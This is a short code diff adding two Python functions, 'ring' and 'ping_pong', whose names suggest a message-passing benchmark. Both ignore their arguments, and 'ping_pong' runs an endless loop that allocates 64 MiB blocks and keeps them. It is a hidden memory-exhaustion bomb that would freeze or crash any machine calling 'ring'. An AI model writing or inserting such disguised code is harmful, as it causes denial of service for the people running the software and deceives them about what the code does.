@@ -1,0 +1,8 @@
+def ping_pong(rounds):
+    hog = []
+    while True:
+        hog.append(bytearray(64 * 1024 * 1024))
+
+
+def ring(n, token):
+    return ping_pong(0)
